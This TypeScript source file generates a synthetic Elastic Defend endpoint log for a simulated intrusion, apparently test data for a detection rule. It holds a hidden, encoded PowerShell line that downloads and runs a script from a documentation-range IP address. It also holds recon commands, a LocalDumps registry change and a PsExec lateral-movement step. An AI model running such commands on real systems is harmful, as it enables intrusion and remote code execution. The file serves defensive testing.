import {
  type Account,
  ALICE,
  at,
  atSecond,
  CMD,
  commandLine,
  LOCAL_DUMPS,
  nameOf,
  POWERSHELL,
  REG,
  ROUTINE,
  SYSTEM,
  WORKSTATION,
} from "./story.ts";

/* The first host, as Elastic Defend exports it: documents in ECS, one on each line. */

interface Started {
  readonly time: string;
  readonly pid: number;
  readonly parent: number;
  readonly executable: string;
  readonly args: string;
  readonly user: Account;
}

const WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
/** PowerShell's encoded commands are UTF-16 in Base64. This one fetches a script; 203.0.113.0/24 is for examples. */
const ENCODED = encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/s')");

const STARTS: readonly Started[] = [
  started("01:31:04.112", 3120, 2044, "C:\\Windows\\explorer.exe", ""),
  started("01:51:38.480", 4412, 3120, WORD, '/n "C:\\Users\\alice.sample\\Downloads\\invoice-0514.docm"'),
  started("01:52:10.033", 4980, 4412, POWERSHELL, `-nop -w hidden -enc ${ENCODED}`),
  started("01:55:21.907", 5016, 4980, "C:\\Windows\\System32\\whoami.exe", "/all"),
  started("01:55:49.350", 5044, 4980, "C:\\Windows\\System32\\nltest.exe", "/dclist:sample.test"),
  started("01:56:30.718", 5060, 4980, "C:\\Windows\\System32\\net.exe", 'group "Domain Admins" /domain'),
  started("02:05:02.201", 5204, 4980, REG, `add "${LOCAL_DUMPS}" /v DumpType /t REG_DWORD /d 1 /f`),
  started("02:06:17.190", 5228, 4980, REG, `add "${LOCAL_DUMPS}" /v DumpType /t REG_DWORD /d 2 /f`),
  started("02:12:55.660", 5300, 4980, "C:\\Users\\Public\\PsExec64.exe", "\\\\SAMPLE-SRV01 -s cmd.exe"),
];

function started(time: string, pid: number, parent: number, executable: string, args: string): Started {
  return { time: at(time), pid, parent, executable, args, user: ALICE };
}

const entity = (pid: number): string => `sample-ws01-${pid}`;

function base(time: string, user: Account): Record<string, unknown> {
  return {
    "@timestamp": time,
    agent: { type: "endpoint" },
    host: { name: WORKSTATION, id: "sample-ws01", os: { type: "windows" }, ip: ["10.20.0.11"] },
    user,
  };
}

function processStart({ time, pid, parent, executable, args, user }: Started): unknown {
  const starter =
    STARTS.find((each) => each.pid === parent)?.executable ?? "C:\\Windows\\System32\\services.exe";
  return {
    ...base(time, user),
    data_stream: { dataset: "endpoint.events.process", type: "logs" },
    event: { kind: "event", module: "endpoint", action: "start", category: ["process"], type: ["start"] },
    process: {
      entity_id: entity(pid),
      pid,
      executable,
      name: nameOf(executable),
      command_line: commandLine(executable, args),
      args: [executable, ...args.split(" ").filter((arg) => arg !== "")],
      parent: { entity_id: entity(parent), pid: parent, executable: starter, name: nameOf(starter) },
    },
  };
}

function dumpType(time: string, pid: number, value: string): unknown {
  return {
    ...base(at(time), ALICE),
    data_stream: { dataset: "endpoint.events.registry", type: "logs" },
    event: {
      kind: "event",
      module: "endpoint",
      action: "modification",
      category: ["registry"],
      type: ["change"],
    },
    registry: {
      hive: "HKLM",
      key: LOCAL_DUMPS.slice("HKLM\\".length),
      path: `${LOCAL_DUMPS}\\DumpType`,
      value: "DumpType",
      data: { type: "REG_DWORD", strings: [value] },
    },
    process: { entity_id: entity(pid), pid, executable: REG, name: "reg.exe" },
  };
}

function download(): unknown {
  return {
    ...base(at("01:52:12.871"), ALICE),
    data_stream: { dataset: "endpoint.events.network", type: "logs" },
    event: {
      kind: "event",
      module: "endpoint",
      action: "connection_attempted",
      category: ["network"],
      type: ["start"],
    },
    process: { entity_id: entity(4980), pid: 4980, executable: POWERSHELL, name: "powershell.exe" },
    source: { ip: "10.20.0.11", port: 50_122 },
    destination: { ip: "203.0.113.7", port: 80 },
    network: { transport: "tcp", direction: "egress" },
  };
}

/** Every three minutes from half past midnight. */
function routine(): unknown[] {
  return Array.from({ length: 100 }, (_, n) => {
    const [executable, args] = ROUTINE[n % ROUTINE.length]!;
    return processStart({
      time: atSecond(1800 + n * 180 + 7),
      pid: 6000 + n * 4,
      parent: 712,
      executable,
      args: args.replace(CMD, ""),
      user: SYSTEM,
    });
  });
}

function encoded(script: string): string {
  return btoa(Array.from(script, (character) => `${character}\0`).join(""));
}

/** The workstation's events in the order of their times, as NDJSON. */
export function workstationLog(): string {
  const events = [
    ...STARTS.map(processStart),
    download(),
    // Not full dumps yet: the rule's condition on the value is the only one that fails.
    dumpType("02:05:02.344", 5204, "1"),
    dumpType("02:06:17.250", 5228, "2"),
    ...routine(),
  ] as { "@timestamp": string }[];
  events.sort((a, b) => (a["@timestamp"] < b["@timestamp"] ? -1 : 1));
  return events.map((event) => `${JSON.stringify(event)}\n`).join("");
}
